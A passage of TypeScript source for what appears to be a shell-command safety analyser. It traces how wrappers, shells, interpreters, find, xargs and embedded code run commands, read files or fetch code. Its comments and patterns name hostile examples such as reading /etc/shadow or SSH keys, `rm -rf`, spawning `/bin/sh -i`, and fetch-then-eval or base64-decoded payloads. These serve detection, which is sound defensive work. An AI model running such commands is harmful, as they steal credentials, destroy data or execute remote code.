    // Variables whose value is a command the program runs (`LESSOPEN='|cmd %s' less f`, `GIT_SSH_COMMAND=… git`).
    for (const a of c.assigns)
      if (
        /^(?:LESSOPEN|LESSCLOSE|PAGER|GIT_PAGER|MANPAGER|EDITOR|VISUAL|GIT_EDITOR|GIT_SSH_COMMAND|GIT_SSH|GIT_EXTERNAL_DIFF|BROWSER|SUDO_ASKPASS|SSH_ASKPASS|PROMPT_COMMAND)$/.test(
          a.name,
        )
      )
        this.runString(a.value.text.replace(/^\|+\s*/, "").replace(/%s/g, "x"), inh);
    // make --eval: recipe lines run by the shell
    if (program === "make" || program === "gmake")
      for (const v of optValues(args, ["--eval", "-E"]))
        for (const l of v.split("\n")) if (/^\t/.test(l)) this.runString(l.trim().replace(/^[-@+]+/, ""), inh);
    // GNU sed's `e COMMAND` runs a command
    if ((program === "sed" || program === "gsed") && pos[0])
      for (const m of [pos[0].value, ...optValues(args, ["-e", "--expression"])].join("\n").matchAll(/(?:^|[\d$/;}\n])\s*e\s+([^;\n}]+)/g))
        this.runString(m[1], inh);
    // GNU sed's `s/…/CMD/e`: the pattern space after the substitution runs as a command
    if ((program === "sed" || program === "gsed") && pos[0])
      for (const m of [pos[0].value, ...optValues(args, ["-e", "--expression"])]
        .join("\n")
        .matchAll(/(?:^|[;\n{])\s*s([^\w\s\\])((?:\\.|(?!\1)[^\\])*)\1((?:\\.|(?!\1)[^\\])*)\1([gpiImM\d]*e[gpiImM\d]*)/g))
        this.runString(m[3].replace(/\\(.)/g, "$1"), inh);

    // 0. Strings that are run as commands later or elsewhere on this machine.
    if (program === "alias") {
      for (const a of args) {
        const m = /^([^=\s]+)=([\s\S]*)$/.exec(a);
        if (m) this.aliases.set(m[1], m[2]);
      }
      return;
    }
    if (program === "hash") {
      const p = optValues(args, ["-p"])[0];
      const name = p !== undefined ? args[args.indexOf("-p") + 2] : undefined;
      if (p !== undefined && name) this.aliases.set(name, shellQuote(p));
      return;
    }
    if (program === "trap") {
      let i = 1;
      if (words[i]?.text === "--") i++;
      if (words[i] && words.length > i + 1 && !words[i].text.startsWith("-")) parseInner(words[i].sh);
      return;
    }
    if (program in COMMAND_OPTION) {
      const cmd = optWord(COMMAND_OPTION[program]);
      if (cmd !== undefined) {
        parseInner(cmd, ELEVATOR_SET.has(program) ? { sudo: true } : {});
        return;
      }
      if (program === "su" || program === "script") return;
    }
    if (program in JOINS_ARGS && !words.some((w) => w.text === ":::" || w.text === "::::")) {
      const takes = new Set(JOINS_ARGS[program]);
      let i = 1;
      let exec = false;
      for (; i < words.length && words[i].text.startsWith("-"); i++) {
        if (words[i].text === "-x" || words[i].text === "--exec") exec = true;
        if (takes.has(words[i].text)) i++;
      }
      if (i < words.length) {
        if (exec) child(words.slice(i));
        else
          parseInner(
            words
              .slice(i)
              .map((w) => w.sh)
              .join(" "),
          );
      }
      return;
    }

    // code options of programs that are not interpreters (`expect -c 'spawn …'`)
    if ((!e.interp || e.interp === "compiler") && program !== "emacs" && prog.code?.length)
      for (const v of optValues(args, prog.code)) {
        e.code = `${e.code}${v}`.toLowerCase();
        this.code(v, program, inh, e);
      }
    // `crystal eval CODE`: inline code given as the subcommand's argument
    if (program === "crystal" && pos[0]?.value === "eval" && pos[1]) {
      e.code = `${e.code}${pos[1].value}`.toLowerCase();
      this.code(pos[1].value, program, inh, e);
    }
    // `openclaw gateway [run] --bind lan|tailnet|custom|0.0.0.0`: a gateway listening beyond loopback
    if (program === "openclaw" && pos[0]?.value === "gateway") {
      const bind = optValues(args, ["--bind"])[0];
      if (bind !== undefined && !/^(?:loopback|auto|localhost|127\.0\.0\.1|::1)$/i.test(bind))
        this.listenOp(program, Number(optValues(args, ["--port"])[0] ?? 18789) || 18789, true, inh, bind);
    }
    // emacs --eval '(…)': Lisp with the same library calls on files and processes
    if (program === "emacs" || program === "emacsclient")
      for (const v of optValues(args, ["--eval", "-eval", "--execute"])) {
        e.code = `${e.code}${v}`.toLowerCase();
        this.code(v, program, inh, e);
        for (const m of v.matchAll(/\((?:shell-command|call-process|start-process|async-shell-command)(?:-to-string)?\s+"([^"]+)"/g))
          this.runString(m[1], inh);
      }
    // project runners run the rest as a command: `uv run CMD`, `poetry run CMD`, `pipenv run`, `pdm run`, `hatch run`, `conda run`, `bundle exec`
    if (
      (/^(?:uv|poetry|pipenv|pdm|hatch|rye|pixi|conda|mamba|micromamba)$/.test(program) && pos[0]?.value === "run") ||
      (/^(?:bundle|bundler)$/.test(program) && pos[0]?.value === "exec")
    ) {
      let k = pos[0].idx + 2;
      const takes = /^(?:--with|--python|-p|--env-file|-n|--name|--from|--directory|--project|--group|--extra|-e|--env)$/;
      while (k < words.length && words[k].text.startsWith("-")) k += takes.test(words[k].text) ? 2 : 1;
      if (k < words.length) {
        child(words.slice(k));
        return;
      }
    }
    // `env -S 'cmd args'` / `--split-string=…`: the string is split into the command it runs
    if (program === "env") {
      const si = words.findIndex(
        (w) => w.text === "-S" || w.text === "--split-string" || w.text.startsWith("--split-string=") || /^-S./.test(w.text),
      );
      if (si > 0) {
        const w = words[si];
        const val = w.text === "-S" || w.text === "--split-string" ? (words[si + 1]?.sh ?? "") : w.sh.replace(/^--split-string=|^-S/, "");
        const rest = words.slice(w.text === "-S" || w.text === "--split-string" ? si + 2 : si + 1).map(reread);
        parseInner([val, ...rest].join(" "));
        return;
      }
    }
    // make -f - / -f /dev/stdin: the makefile is its standard input; its recipe lines run in the shell
    if (
      (program === "make" || program === "gmake") &&
      stdin !== undefined &&
      optValues(args, ["-f", "--file", "--makefile"]).some((v) => v === "-" || v === "/dev/stdin")
    )
      for (const l of stdin.split("\n")) if (/^\t/.test(l)) this.runString(l.trim().replace(/^[-@+]+/, ""), inh);
    // tmux new[-session] / new-window / split-window … 'cmd': the trailing command runs in a shell
    if (program === "tmux" && pos.length >= 2 && /^(?:new|new-session|new-window|neww|split-window|splitw|respawn-pane)$/.test(pos[0].value))
      this.runString(pos[pos.length - 1].value, inh);
    // 1. Wrappers run the rest of their arguments as a command.
    if (program in WRAPPERS || ELEVATOR_SET.has(program)) {
      for (const v of optValues(args, prog.in ?? [])) this.pathOp("read", v, false, program, inh); // xargs -a FILE
      const takes = new Set(WRAPPERS[program] ?? []);
      let i = 1;
      let skipPos = POSITIONAL_BEFORE_CMD[program] ?? 0;
      while (i < words.length) {
        const a = words[i].text;
        if (a === "--") {
          i++;
          break;
        }
        if (program === "env" && /^[A-Za-z_][A-Za-z0-9_]*=/.test(a)) {
          i++;
          continue;
        }
        if (program === "command" && (a === "-v" || a === "-V")) return; // only looks the name up
        if (a.startsWith("-") && a.length > 1) {
          i += takes.has(a) ? 2 : 1;
          continue;
        }
        if (skipPos > 0) {
          skipPos--;
          i++;
          continue;
        }
        break;
      }
      // xargs: the items it appends are what the line feeds it (a here-string, `echo`/`printf`, or the paths
      // `find`/`fd`/`ls`/`realpath` are given upstream: every file under a root `find` walks)
      const up = c.pipeFrom[c.pipeFrom.length - 1]?.words;
      if (
        program === "xargs" &&
        words[i]?.text === "kill" &&
        up?.length &&
        /^(?:pgrep|pidof)$/.test(basename(up[0].text)) &&
        !up.some((x) => x.dynamic)
      ) {
        const sig = words
          .slice(i + 1)
          .map((x) => x.text)
          .filter((a) => /^-(?:\d+|[A-Z]+)$/.test(a));
        const pg = basename(up[0].text);
        parseInner([pg === "pidof" ? "killall" : "pkill", ...sig, ...up.slice(1).map((x) => x.text)].map(shellQuote).join(" "));
        return;
      }
      // `parallel ::: 'cmd' …` runs each argument as a command; `parallel CMD ::: a b` runs CMD with each
      if ((program === "parallel" || program === "sem") && words.some((x) => x.text === ":::")) {
        const k = words.findIndex((x) => x.text === ":::");
        const cmd = words.slice(i, k).map(reread);
        for (const x of words.slice(k + 1)) if (x.text !== ":::") parseInner(cmd.length ? [...cmd, reread(x)].join(" ") : x.sh);
        return;
      }
      const repl =
        optValues(args, ["-I", "-i", "--replace"])[0] ?? (args.some((a) => /^-I./.test(a)) ? args.find((a) => /^-I./.test(a))?.slice(2) : undefined);
      // with -I each input line is one item (`xargs -I{} sh -c '{}' <<< 'rm -rf /x'` runs the whole line)
      const items = program === "xargs" && i < words.length ? this.xargsItems(c, stdin, repl !== undefined) : undefined;
      if (items?.length) {
        const cmd = words.slice(i).map(reread);
        const before = this.ops.length;
        for (const it of items) {
          const q = it.glob ? it.value : shellQuote(it.value);
          // (the item goes into the word as written: inside a quoted word it stays one word)
          parseInner(
            repl
              ? words
                  .slice(i)
                  .map((w, k) =>
                    w.text.includes(repl) ? (w.quoted ? shellQuote(w.text.split(repl).join(it.value)) : w.text.split(repl).join(q)) : cmd[k],
                  )
                  .join(" ")
              : [...cmd, q].join(" "),
          );
        }
        for (const o of this.ops.slice(before))
          for (const it of items)
            if (it.tree && (o.op === "read" || o.op === "delete" || o.op === "access") && o.path === resolvePath(it.value, this.env)) {
              this.readTree(o, it.value);
              if (o.op === "delete") o.mode = "recursive";
            }
        return;
      }
      if (i < words.length) {
        const elevated = ELEVATOR_SET.has(program) || inh.sudo;
        // `env -C DIR cmd`, `sudo -D DIR cmd`: the command runs in DIR
        const dir = optValues(args, program === "env" ? ["-C", "--chdir"] : ELEVATOR_SET.has(program) ? ["-D", "--chdir"] : [])[0];
        const saved = this.env;
        if (dir !== undefined) this.env = { ...this.env, cwd: resolvePath(dir, this.env) };
        try {
          child(words.slice(i), { sudo: elevated, unknownArgs: inh.unknownArgs || program === "xargs" });
        } finally {
          this.env = saved.cwd === this.env.cwd || dir === undefined ? this.env : saved;
        }
      }
      return;
    }
    // 2. Shells and eval: parse the string they would run.
    if (SHELL_SET.has(program) || (program === "busybox" && SHELL_SET.has(args[0] ?? ""))) {
      const off = program === "busybox" ? 1 : 0;
      const a = args.slice(off);
      const ci = a.findIndex((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x));
      // the command string as the shell re-reads it: what is computed stays computed (`sh -c "$X"`)
      // `bash <(echo 'cmd')`: a process substitution that only computes text is the script
      const procSub = words.slice(1 + off).find((w) => w.sh.startsWith("<(") && w.sh.endsWith(")"));
      const procOut = procSub ? pureScriptOf(procSub.sh.slice(2, -1), inh.vars) : undefined;
      if (ci >= 0 && a[ci + 1] !== undefined) parseInner(words[1 + off + ci + 1].sh);
      else if (procOut !== undefined) parseInner(procOut);
      else {
        const s0 = a.find((x) => !x.startsWith("-"));
        // `sh /dev/stdin <<< 'cmd'`: the script is its standard input
        const script = s0 && /^\/(?:dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(s0) && stdin !== undefined ? undefined : s0;
        const body = script ? this.written.get(resolvePath(script, this.env)) : undefined;
        if (body !== undefined && inh.depth < 10) parseInner(body);
        if (script) this.pathOp("read", script, false, program, inh);
        // `bash <<EOF … EOF`, `sh <<< 'cmd'`, `echo 'cmd' | sh`, `bash -s`: the script is its standard input
        else if (stdin !== undefined) parseInner(stdin);
      }
      return;
    }
    if (program === "eval") {
      parseInner(
        words
          .slice(1)
          .map((w) => w.sh)
          .join(" "),
      );
      return;
    }
    if (program === "source" || program === ".") {
      const ps = words[1]?.sh.startsWith("<(") && words[1].sh.endsWith(")") ? pureScriptOf(words[1].sh.slice(2, -1), inh.vars) : undefined;
      if (ps !== undefined) parseInner(ps);
      // `source /dev/stdin <<< 'cmd'`: the script is its standard input
      else if (args[0] && /^\/(?:dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(args[0]) && stdin !== undefined) parseInner(stdin);
      else if (args[0]) this.pathOp("read", args[0], argDynamic[0], program, inh);
      return;
    }
    // 3. Interpreters with inline code.
    if (e.interp && e.interp !== "compiler") {
      // files the interpreter itself loads (`node --env-file=.env`)
      for (const v of optValues(args, prog.in ?? [])) this.pathOp("read", v, false, program, inh);
      const codeFlag = [
        "-c",
        "-e",
        "--eval",
        "-eval",
        "-E",
        "-r",
        "-p",
        "--print",
        "-Command",
        "-command",
        "-x",
        "-EncodedCommand",
        "-encodedcommand",
        "-ec",
        "-enc",
      ];
      let code: string | undefined;
      for (let i = 0; i < args.length; i++) {
        // Python's `-m MODULE`: what follows is the module's arguments (`-m tarfile -c OUT SRC` is not inline code)
        if (args[i] === "-m" && interpFamily(program) === "python") break;
        if (codeFlag.includes(args[i]) || /^-[a-zA-Z]*[ce]$/.test(args[i])) {
          code = args[i + 1];
          // code produced by a command substitution (`python3 -c "$(echo … | base64 -d)"`) or only by variables
          const cw = words[i + 2];
          if (cw && !this.unknown.has(e) && (cw.subs.length || (cw.dynamic && !cw.text.trim())))
            this.unknown.set(e, `the code ${program} runs is computed when the command runs (\`${cw.src}\`), so it cannot be checked`);
          break;
        }
      }
      // `python3 - <<EOF`, `node <<< 'code'`, `echo 'code' | ruby`: the program is its standard input
      // deno/bun take a subcommand first: `deno run URL`, `deno eval CODE`, `bun x PKG`
      const sub = (program === "deno" || program === "bun") && ["run", "eval", "x", "exec"].includes(pos[0]?.value ?? "") ? pos[0].value : "";
      const spos = sub ? pos.slice(1) : pos;
      if (sub === "eval" && code === undefined && spos[0]) code = spos[0].value;
      const script0 = sub === "eval" ? undefined : spos.find((p) => !p.value.startsWith("-") || p.value === "-");
      // `python3 /dev/stdin`, `node /dev/fd/0`, `perl /proc/self/fd/0`: the program is its standard input
      const script = script0 && /^\/(?:dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(script0.value) ? { ...script0, value: "-" } : script0;
      if (code === undefined && stdin !== undefined && (!script || script.value === "-") && !args.includes("-m")) code = stdin;
      // it runs a file or module from disk: what it reads on stdin is data
      if (
        code === undefined &&
        ((script && script.value !== "-" && !argDynamic[script.idx] && !/^https?:/i.test(script.value)) || args.includes("-m"))
      )
        e.caps.push("script");
      if (code !== undefined) {
        e.code = code.toLowerCase();
        this.code(code, program, inh, e);
        // the code's own arguments (`python3 -c CODE FILE`: sys.argv, process.argv, ARGV): files it may open
        const ci = args.indexOf(code);
        if (ci >= 0)
          for (let k = ci + 1; k < args.length; k++) if (looksLikePath(args[k])) this.pathOp("access", args[k], argDynamic[k], program, inh);
        // code that fetches code and evaluates it (`fetch(u).then(eval)`, `eval get("https://…")`, `exec(urlopen(…).read())`)
        if (
          (/\b(?:eval|exec|instance_eval|module_eval|Function)\b/.test(code) &&
            /(?:https?:\/\/|urlopen|fetch\(|Net::HTTP|URI\.open|LWP|get\(|requests\.)/i.test(code)) ||
          // PowerShell's `iex (iwr URL)`, Lua's `load(io.popen("curl …"):read())`, `eval(\`curl …\`)`
          (/\b(?:iex|invoke-expression|load|loadstring|dofile|eval|instance_eval)\b/i.test(code) &&
            /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|curl|wget|fetch)\b/i.test(code))
        )
          e.caps.push("remote");
      } else {
        // a program fetched from the network and run (`deno run https://…`, `bun https://…`)
        const remote = script && /^https?:\/\//i.test(script.value) ? parseTarget(script.value) : null;
        if (remote) {
          this.download(this.net(program, remote, inh), -1);
          e.caps.push("remote");
        } else if (script && script.value !== "-" && program !== "perl" && !args.includes("-m"))
          this.pathOp("read", script.value, argDynamic[script.idx], program, inh);
        // the script's (or the `-m` module's: `python3 -m base64 F`, `-m json.tool F`) arguments that name files
        // (`-m tarfile -c OUT SRC…` / `-m zipfile -c OUT SRC…` read their sources whole)
        const mod = optValues(args, ["-m"])[0];
        const archives = /^(?:tarfile|zipfile)$/.test(mod ?? "") && args.some((a) => a === "-c" || a === "--create");
        for (const p of pos.slice(args.includes("-m") ? 0 : 1))
          if (looksLikePath(p.value)) {
            const o = this.pathOp(archives ? "read" : "access", p.value, argDynamic[p.idx], program, inh);
            if (archives) this.readTree(o, p.value);
          }
      }
      if (program !== "perl") return;
    }
    // 4. find: -delete and -exec.
    if (program === "find") {
      const roots: string[] = [];
      let i = 0;
      for (; i < args.length && !/^[-(!]/.test(args[i]); i++) roots.push(args[i]);
      if (!roots.length) roots.push(".");
      const runs = args.some((a) => ["-exec", "-execdir", "-ok", "-okdir"].includes(a));
      for (const r of roots) {
        const o = this.pathOp("access", r, false, program, inh);
        // what -exec runs gets every file under the roots
        if (runs) this.readTree(o, r);
      }
      if (args.includes("-delete"))
        for (const r of roots) {
          const o = this.pathOp("delete", r, false, program, inh);
          o.mode = "recursive"; // -delete descends the whole tree
        }
      for (let j = i; j < args.length; j++) {
        if (["-exec", "-execdir", "-ok", "-okdir"].includes(args[j])) {
          let k = j + 1;
          while (k < args.length && args[k] !== ";" && args[k] !== "+") k++;
          // `{}` is each file found under the root (the root's own files are read whole above)
          const found = `${roots[0].replace(/\/+$/, "")}/{}`;
          const inner = words.slice(j + 2, k + 1).map((w) => ({
            ...w,
            text: w.text.replace(/\{\}/g, found),
            sh: w.sh.replace(/\{\}/g, found),
            pat: w.pat.replace(/\{\}/g, found),
          }));
          if (inner.length) {
            const before = this.ops.length;
            child(inner);
            // a command run on every file found deletes the whole tree under the root (`-exec rm {} \;`, `-exec shred -u {} +`)
            for (const o of this.ops.slice(before)) if (o.op === "delete" && o.path.endsWith("/{}")) o.mode = "recursive";
          }
          j = k;
        }
      }
      e.outside = roots.some((r) => !inWorkspace(resolvePath(r, this.env), this.env));
      return;
    }
    // fd PATTERN [ROOT…] -x/-X CMD…: like find -exec, on every file found under the roots
    if (program === "fd" || program === "fdfind") {
      const xi = args.findIndex((a) => /^(?:-x|-X|--exec|--exec-batch)$/.test(a));
      const fpos = pos.filter((p) => xi < 0 || p.idx < xi);
      const roots = fpos.slice(1).map((p) => p.value);
      if (!roots.length) roots.push(".");
      for (const r of roots) this.readTree(this.pathOp("access", r, false, program, inh), r);
      if (xi >= 0 && xi + 1 < args.length) {
        const found = `${roots[0].replace(/\/+$/, "")}/{}`;
        const cmdWords = words.slice(xi + 2);
        const withPh = cmdWords.some((w) => w.text.includes("{}"))
          ? cmdWords
          : [...cmdWords, { ...cmdWords[0], text: "{}", sh: "{}", pat: "{}", src: "{}", quoted: false, dynamic: false, glob: false, subs: [] }];
        const inner = withPh.map((w) => ({
          ...w,
          text: w.text.replace(/\{\}/g, found),
          sh: w.sh.replace(/\{\}/g, found),
          pat: w.pat.replace(/\{\}/g, found),
        }));
        const before = this.ops.length;
        child(inner);
        for (const o of this.ops.slice(before)) if (o.op === "delete" && o.path.endsWith("/{}")) o.mode = "recursive";
      }
      e.outside = roots.some((r) => !inWorkspace(resolvePath(r, this.env), this.env));
      return;
    }
    // 5. Files named on the command line.
    this.files(program, args, argDynamic, pos, e, inh);
    // 6. Network.
    this.network(program, args, pos, inh);
  }

  private command2(words: Word[], c: SimpleCmd, inh: Inherit) {
    while (words.length && KEYWORDS_DROP.has(words[0].text) && !words[0].quoted) words = words.slice(1);
    if (words.length) this.command(words, c, inh);
  }

  private code(code: string, program: string, inh: Inherit, e?: OpContext) {
    code = normaliseCode(code);
    // Shell commands embedded in code: os.system("…"), subprocess.run([...]), execSync("…"), system("…"),
    // and argv given as several strings (`exec("sh", "-c", "…")`, `execFileSync("cat", ["/etc/shadow"])`).
    const call =
      /(?:os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|pty\.spawn|subprocess\.\w+|execSync|execFileSync|execFile|spawnSync|exec|spawn|system|popen|shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+|syscmd|esyscmd|Process\.spawn|Kernel\.exec|Kernel\.system)\s*\(\s*(\[[^\]]*\]|(["'`])((?:\\.|(?!\2)[^\\])*)\2(?:\s*,\s*(?:\[[^\]]*\]|(["'`])(?:\\.|(?!\4)[^\\])*\4))*)/g;
    const run = (src: string) => {
      try {
        this.script(parseShell(src, { vars: inh.vars, depth: inh.depth + 1 }), { ...inh, depth: inh.depth + 1 });
      } catch {
        /* unparseable embedded string: the code rules still see the raw code */
      }
    };
    // PowerShell's code is a command line of cmdlets (`Remove-Item -Recurse ~/x; Get-Content ~/.ssh/id_rsa`), also
    // given as base64 of UTF-16LE (`-EncodedCommand`)
    if (/^(?:pwsh|powershell)(?:\.exe)?$/i.test(program)) {
      const dec = /^[A-Za-z0-9+/]{8,}={0,2}$/.test(code.trim()) ? Buffer.from(code.trim(), "base64").toString("utf16le") : "";
      run(/^[\x09\x0a\x0d\x20-\x7e]+$/.test(dec) ? dec : code);
    }
    // a function reached by name (`getattr(__import__('os'), 'system')(…)`, PHP's `$f = "system"; $f(…)`): the call it is
    code = code.replace(/\bgetattr\(\s*((?:[^(),]|\([^()]*\))+?)\s*,\s*(["'])(\w+)\2\s*\)\s*\(/g, "$1.$3(");
    for (const m of code.matchAll(/(\$\w+)\s*=\s*(["'])(\w+)\2\s*;/g))
      code = code.replace(new RegExp(`${m[1].replace("$", "\\$")}\\b\\s*\\(`, "g"), `${m[3]}(`);
    for (const m of code.matchAll(call)) {
      let src = m[3];
      // argv as a list or as several strings: each string one word (a lone string is a shell command line)
      const strs = [...m[1].matchAll(/(["'`])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2]);
      // (`popen(cmd, "r")`, `proc_open(cmd, …)`: the second string is a mode, not an argument)
      const mode = /(?:^|[^.\w])(?:popen|proc_open)\s*\($/.test(m[0].slice(0, m[0].indexOf("(") + 1)) && !m[1].startsWith("[");
      if (!mode && (m[1].startsWith("[") || strs.length > 1)) src = strs.map(shellQuote).join(" ");
      if (src) run(src);
    }
    // code that runs code it decodes or decompresses when it runs (`exec(zlib.decompress(…))`, `exec(codecs.decode(…, 'rot13'))`,
    // `eval(marshal.loads(…))`): what runs cannot be read here, like `python3 -c "$(… | base64 -d)"`
    if (
      e &&
      !this.unknown.has(e) &&
      /\b(?:exec|eval)\s*\(\s*(?:[\w.]+\.)?(?:decompress|loads|decode)\s*\(/.test(code) &&
      !/\b(?:exec|eval)\s*\(\s*(?:base64\.)?b64decode\s*\(\s*b?["'][A-Za-z0-9+/=_-]+["']\s*\)\s*\)/.test(code)
    )
      this.unknown.set(e, `the code ${program} runs is decoded when it runs, so it cannot be checked`);
    // (`os.spawnlp(os.P_WAIT, 'git', …)`: the mode first, then the literal program)
    const plainSpawn = code.replace(/os\.spawn(\w*)\s*\(\s*(?:os\.)?P_\w+\s*,\s*/g, "os.spawn$1(");
    // a command the code computes (`os.system(cmd)`, `subprocess.run(argv)`, `execSync(x)`, `system($ARGV[0])`): unreadable here
    // (awk's `system($1)` runs its input's lines: decided as before by the remote-code rule on what feeds it)
    if (
      e &&
      !/awk$/.test(program) &&
      (/(?:os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|execSync|execFileSync|execFile|spawnSync|\bexec|\bspawn|\bsystem|\bpopen|shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+)\s*\(\s*(?![\s"'`[)]|\w+\s*\()/.test(
        plainSpawn,
      ) ||
        // a literal command with a computed tail (`os.system('rm -rf ' + path)`, `"cat " . $f`, `'%s' % x`)
        /(?:os\.system|os\.popen|subprocess\.\w+|execSync|\bexec|\bsystem|\bpopen|shell_exec|passthru)\s*\(\s*(["'`])(?:\\.|(?!\1)[^\\])*\1\s*(?:[+.%]|\.format\()/.test(
          code,
        ))
    )
      e.caps.push("dynexec");
    // Perl's word lists: `system qw(rm -rf /x)`, `exec qw{cat /etc/shadow}`
    if (/^perl/.test(program))
      for (const m of code.matchAll(/\b(?:exec|system)\s*\(?\s*qw\s*(?:\(([^)]*)\)|\{([^}]*)\}|\[([^\]]*)\]|<([^>]*)>)/g))
        run((m[1] ?? m[2] ?? m[3] ?? m[4] ?? "").trim().split(/\s+/).map(shellQuote).join(" "));
    // Perl/Ruby calls without parentheses: `exec "/bin/sh -i"`, `system "cat", "/etc/shadow"`
    if (/^(perl|ruby|php|lua)/.test(program))
      for (const m of code.matchAll(
        /\b(?:exec|system|spawn)\s+(?:\{[^}]*\}\s*)?((["'])(?:\\.|(?!\2)[^\\])*\2(?:\s*,\s*(["'])(?:\\.|(?!\3)[^\\])*\3)*)/g,
      )) {
        const strs = [...m[1].matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2]);
        run(strs.length > 1 ? strs.map(shellQuote).join(" ") : strs[0]);
      }
    // Calls of the languages that put no parentheses round their arguments, or name the runner otherwise: Lisp's
    // `(system "cmd")`, `(ext:shell "cmd")`, `(sb-ext:run-program "/bin/rm" (list "-rf" "/x"))`, Racket's `(process "cmd")`,
    // Haskell's `callCommand "cmd"` / `rawSystem "rm" ["-rf", "/x"]`, Erlang's `os:cmd("cmd")`, Elixir's
    // `System.cmd("rm", ["-rf", "/x"])` / `System.shell("cmd")`, the JVM's `Runtime.getRuntime().exec(…)` and
    // `ProcessBuilder("rm", …)`: a lone string is a command line, several strings (or a list) are argv.
    for (const m of code.matchAll(
      /(?:^|[\s(;,{=$.])(?:system[2*]?|ext:shell|(?:sb-ext:|uiop:|ext:|ccl:)?run-program|(?:async-)?shell-command(?:-to-string)?|process\*?|callCommand|spawnCommand|rawSystem|callProcess|readProcess(?:WithExitCode)?|readCreateProcess|System\.Process\.\w+|os:cmd|System\.cmd|System\.shell|ProcessBuilder|Process|Sys\.command|Unix\.system|Unix\.open_process\w*|system:)\s*\(?\s*((?:(["'])(?:\\.|(?!\2)[^\\])*\2\s*,?\s*)+(?:(?:'|#'|c)?\(\s*(?:list\s+)?(?:["'](?:\\.|[^"'\\])*["']\s*,?\s*)+\)|\[[^\]]*\])?)/g,
    )) {
      const strs = [...m[1].matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2]);
      if (strs.length) run(strs.length > 1 ? strs.map(shellQuote).join(" ") : strs[0]);
    }
    // Scala's `"cmd".!` / `.!!`, Swift's `Process.launchedProcess(launchPath: P, arguments: [...])`, Deno's
    // `Deno.run({cmd: [...]})`: a command line, or argv
    for (const m of code.matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1\s*\.\s*!!?(?!=)/g)) run(m[2]);
    for (const m of code.matchAll(/launchPath:\s*"([^"]+)"[^)]*?arguments:\s*\[([^\]]*)\]|\bcmd\s*:\s*\[([^\]]*)\]/g)) {
      const argv = [...(m[1] ? [m[1]] : []), ...[...(m[2] ?? m[3] ?? "").matchAll(/(["'`])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2])];
      if (argv.length) run(argv.map(shellQuote).join(" "));
    }
    // a command held in a variable assigned a literal (`cmd = "rm -rf /x"; system(cmd)`): what runs is the literal
    for (const m of code.matchAll(
      /(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|\bexec(?:Sync|File|FileSync|[lv]p?e?)?|\bspawn(?:Sync)?|\bsystem|\bpopen|shell_exec|passthru)\s*\(\s*(\$?[A-Za-z_]\w*)\s*[,)]/g,
    )) {
      const lit = new RegExp(`(?:^|[\\s;{(])${m[1].replace("$", "\\$")}\\s*=(?!=)\\s*(["'])((?:\\\\.|(?!\\1)[^\\\\])*)\\1`).exec(code);
      if (lit) run(lit[2]);
    }
    // dc's `!cmd` and IPython's `!cmd` / `%system cmd` lines run a shell command
    if (program === "dc") for (const m of code.matchAll(/!([^\n]+)/g)) run(m[1]);
    if (/^ipython/.test(program)) for (const m of code.matchAll(/(?:^|[\n;])\s*(?:!!?|%(?:system|sx)\s)([^\n]+)/g)) run(m[1]);
    // expect's `spawn prog args` runs the program
    if (program === "expect") for (const m of code.matchAll(/\bspawn\s+([^;\n}\]]+)/g)) run(m[1]);
    // awk's `print … > "file"` / `>> "file"` writes the file
    if (/awk$/.test(program))
      for (const m of code.matchAll(/\bprintf?\b(?:"[^"]*"|[^;{}|"])*?>>?\s*"([^"]+)"/g)) this.pathOp("write", m[1], false, program, inh);
    // Encoded strings decoded by the code (`b64decode('…')`, `decode_base64("…")`, `bytes.fromhex('…')`,
    // `Buffer.from('…', 'base64')`, `atob('…')`): the decoded text is analysed as code, and run as a command
    // when it is what a system/exec call is given.
    // (Perl's and Ruby's `pack("H*", "726d…")` / `["726d…"].pack("H*")` decode hex the same way)
    for (const m of code.matchAll(
      /(b64decode|decode_base64|base64_decode|decode64|atob|fromhex|unhexlify|hex2bin|Buffer\.from|pack\s*\(\s*["'][Hh]\*["']\s*,)\s*\(?\s*b?(["'])([A-Za-z0-9+/=_-]{8,})\2\s*(?:,\s*["'](base64|hex)["'])?/g,
    )) {
      const hex = /fromhex|unhexlify|hex2bin|pack/.test(m[1]) || m[4] === "hex";
      if (m[1] === "Buffer.from" && !m[4]) continue;
      const text = Buffer.from(m[3], hex ? "hex" : "base64").toString("latin1");
      if (!/^[\x09\x0a\x0d\x20-\x7e]+$/.test(text) || inh.depth > 8) continue;
      const before = code.slice(Math.max(0, (m.index ?? 0) - 48), m.index ?? 0);
      if (
        /(?:system|popen|exec[a-z]*|spawn\w*|shell_exec|passthru|call|run|check_output|Popen)\s*\(\s*[\w.()]*$/.test(before) &&
        !/\bexec\s*\(\s*$/.test(before) &&
        // Python's and JavaScript's exec/eval run code, not a command (`exec(bytes.fromhex('…'))`)
        !(/^(?:python|node)$/.test(interpFamily(program)) && /\b(?:exec|eval)\s*\(\s*[\w.]*$/.test(before))
      )
        run(text);
      else this.code(text, program, { ...inh, depth: inh.depth + 1 }, e);
    }
    // Tcl `exec prog args`, Groovy `"cmd".execute()`, Python/Ruby `os.execv(path, [...])` run programs too
    for (const m of code.matchAll(/(?:^|[[;{\n])\s*exec\s+([^\]\n;}]+)/g)) if (/tcl|wish|expect/.test(program)) run(m[1]);
    for (const m of code.matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1\s*\.\s*execute\s*\(/g)) run(m[2]);
    // Changing to root (`os.setuid(0)`, `POSIX::setuid(0)`, `Process::Sys.setuid(0)`, `posix_setuid(0)`), or a
    // setuid/setgid mode by library call (`os.chmod(p, 0o4755)`, `fs.chmodSync(p, 0o2755)`): privileges.
    if (
      e &&
